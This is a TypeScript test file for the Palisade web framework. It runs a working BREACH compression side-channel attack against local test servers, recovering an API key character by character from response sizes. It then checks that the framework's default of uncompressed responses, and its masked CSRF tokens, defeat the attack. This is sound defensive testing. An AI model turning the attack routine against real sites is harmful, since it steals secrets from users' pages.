// BREACH, carried out over real sockets: an attacker who can make the victim's browser
// load a page with chosen input (a search term) and can see the size of each response
// guesses a secret on that page one character at a time, keeping the guess that
// compresses best (the "two tries" method of the BREACH paper, Gluck, Harris and Prado,
// 2013: the guess right after the known prefix against the same characters apart). The
// client accepts gzip, as Chromium says over plain HTTP ("gzip, deflate"); this simple
// variant reads brotli at quality 4 less well, which is no protection.
//
// The control, a compressed page that reflects the input next to a constant secret, gives
// the secret away. The same attack learns nothing from Palisade's default (handler
// responses are not compressed), nor from a compressed page whose secret is the CSRF
// token, which is masked afresh in every response.
import { test, after, before } from 'node:test';
import assert from 'node:assert/strict';
import { Agent, request } from 'node:http';
import { createApp } from '../../src/index.js';
import type { RunningServer } from '../../src/adapters/node.js';
import { html } from '../../src/html.js';
import { Response } from '../../src/http/response.js';
import { csrfToken } from '../../src/security/csrf.js';

const SECRET = 'breach-test-secret-'.padEnd(40, 'b');
const API_KEY = 'sk_c0ffee42d00d'; // what the attacker is after
const HEX = '0123456789abcdef';
const B64URL = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';

function page(q: string, secret: string) {
  return html`<!doctype html><html><body><h1>Search</h1><p>You searched for: ${q}</p><ul>${Array.from({ length: 100 }, (_, i) => html`<li>result ${i}</li>`)}</ul><footer>${secret}</footer></body></html>`;
}

let compressed: RunningServer; // compress: true — the control and the CSRF-token page
let plain: RunningServer; // the default setting
const agent = new Agent({ keepAlive: true, maxSockets: 1 });

before(async () => {
  for (const responses of [true, false]) {
    const app = createApp({ env: 'test', secretKey: SECRET, compress: { responses } });
    app.get('/search', (req) => page(req.query.get('q') ?? '', `api_key=${API_KEY}`));
    app.get('/form', (req) => page(req.query.get('q') ?? '', `csrf_token=${csrfToken()}`));
    app.get('/plain', () => new Response('x'));
    const s = await app.listen({ port: 0, handleSignals: false });
    if (responses) compressed = s;
    else plain = s;
  }
});
after(async () => {
  agent.destroy();
  await compressed?.close();
  await plain?.close();
});

/** The size on the wire of the page for `q`, as an eavesdropper sees it (Content-Length). */
function sizeOf(base: string, path: string, q: string): Promise<number> {
  return new Promise((resolve, reject) => {
    request(`${base}${path}?q=${encodeURIComponent(q)}`, { agent, headers: { 'accept-encoding': 'gzip, deflate' } }, (res) => {
      let n = 0;
      res.on('data', (c: Buffer) => (n += c.length));
      res.on('end', () => resolve(n));
    })
      .on('error', reject)
      .end();
  });
}

/** Guesses `count` characters after `known`, each from `alphabet`. */
async function attack(base: string, path: string, known: string, alphabet: string, count: number): Promise<{ guess: string; signal: number }> {
  let signal = 0;
  let guess = known;
  for (let i = 0; i < count; i++) {
    let best: { c: string; score: number } | undefined;
    const tail = guess.slice(-8); // enough to be found once in the page, and a match of the same length each round
    for (const c of alphabet) {
      let score = 0;
      for (const pad of ['', '{', '{}', '{}{', '{}{}']) {
        const near = await sizeOf(base, path, `${pad}${tail}${c}~#~`);
        const apart = await sizeOf(base, path, `${pad}${tail}~#~${c}`);
        score += near - apart;
      }
      signal = Math.max(signal, Math.abs(score));
      if (best === undefined || score < best.score) best = { c, score };
    }
    guess += best!.c;
  }
  return { guess: guess.slice(known.length), signal };
}

test('control: a compressed page that reflects input next to a constant secret gives the secret away', async () => {
  const { guess } = await attack(compressed.url, '/search', 'api_key=sk_', HEX, 12);
  assert.equal(guess, API_KEY.slice(3));
});

test('the default (handler responses not compressed) gives the attacker nothing to measure', async () => {
  const { guess, signal } = await attack(plain.url, '/search', 'api_key=sk_', HEX, 4);
  assert.notEqual(guess, API_KEY.slice(3, 7));
  // The size depends on the input's length only: a guess next to the known prefix and the
  // same characters apart always weigh the same.
  assert.equal(signal, 0);
});

test('a masked CSRF token on a compressed page that reflects input is not recovered', async () => {
  // The attacker guesses the token's first characters; the mask, fresh in every response,
  // makes them different every time, so no guess can compress better for the right reason.
  const { guess } = await attack(compressed.url, '/form', 'csrf_token=', B64URL, 4);
  const tokens = new Set<string>();
  for (let i = 0; i < 20; i++) {
    const body = await new Promise<string>((resolve, reject) => {
      request(`${compressed.url}/form?q=x`, { agent }, (res) => {
        let t = '';
        res.setEncoding('utf8');
        res.on('data', (c: string) => (t += c));
        res.on('end', () => resolve(t));
      })
        .on('error', reject)
        .end();
    });
    tokens.add(/csrf_token=([\w-]{86})/.exec(body)![1]!);
  }
  assert.equal(tokens.size, 20, 'a new token in every response');
  const prefixes = [...tokens].map((t) => t.slice(0, 4));
  assert.ok(!prefixes.every((p) => p === guess), `the guess ${guess} is the prefix of every token`);
  assert.ok(new Set(prefixes).size > 15, 'the first characters change from response to response');
});
